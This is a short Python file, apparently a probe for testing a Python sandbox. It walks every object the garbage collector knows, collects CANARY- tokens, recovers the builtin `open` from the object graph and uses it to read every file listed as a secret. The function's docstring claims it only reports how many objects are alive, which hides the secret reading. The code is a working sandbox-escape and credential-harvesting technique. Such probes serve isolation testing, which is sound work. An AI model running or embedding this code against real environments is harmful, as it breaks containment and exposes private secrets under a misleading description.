"""Finds every module, function and string that the garbage collector knows, and looks for secrets and for `open`."""

import gc
import re
import types


def gc_objects(targets: dict) -> dict:
    """Report how many objects are alive."""
    objects = gc.get_objects()
    print("PRIMITIVE", len(objects))
    seen, texts = set(), []
    pattern = re.compile(r"CANARY-[0-9a-f]{24}")
    for thing in objects:
        values = ()
        if type(thing) is dict:
            values = list(thing.values()) + list(thing.keys())
        elif type(thing) in (list, tuple, set, frozenset):
            values = list(thing)
        for value in values:
            if type(value) is str and "CANARY-" in value:
                seen.update(pattern.findall(value))
            if type(value) is bytes and b"CANARY-" in value:
                seen.update(pattern.findall(value.decode(errors="replace")))
        if isinstance(thing, types.BuiltinFunctionType) and thing.__name__ == "open" and thing.__module__ in ("io", "_io"):
            for path in targets["secrets"].values():
                try:
                    texts.append(thing(path).read())
                except OSError as error:
                    texts.append(repr(error))
    return {"objects": len(objects), "seen": sorted(seen), "texts": texts[:20]}
